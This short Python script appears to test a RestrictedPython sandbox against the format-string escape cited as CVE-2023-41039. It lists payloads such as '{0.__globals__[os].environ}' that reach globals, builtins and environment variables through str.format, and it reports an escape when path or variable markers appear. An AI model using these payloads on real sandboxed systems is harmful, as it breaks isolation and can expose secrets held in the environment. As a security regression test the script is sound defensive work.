# Reads attributes and items through a format string, which no check of the syntax sees.
# advisory: CVE-2023-41039 (RestrictedPython)
import os


def function():
    pass


print("ATTEMPTED")
for text in (
    "{0.__globals__[os].environ}",
    "{0.__globals__[__builtins__]}",
    "{0.__code__.co_filename}",
    "{0.__globals__[os].__file__}",
    "{1.__init__.__globals__}",
):
    try:
        shown = text.format(function, os._Environ)
    except Exception as error:
        shown = type(error).__name__
    if "@VARIABLE@" in shown or "/home/" in shown or "/root/" in shown:
        print("ESCAPED", shown[:200])
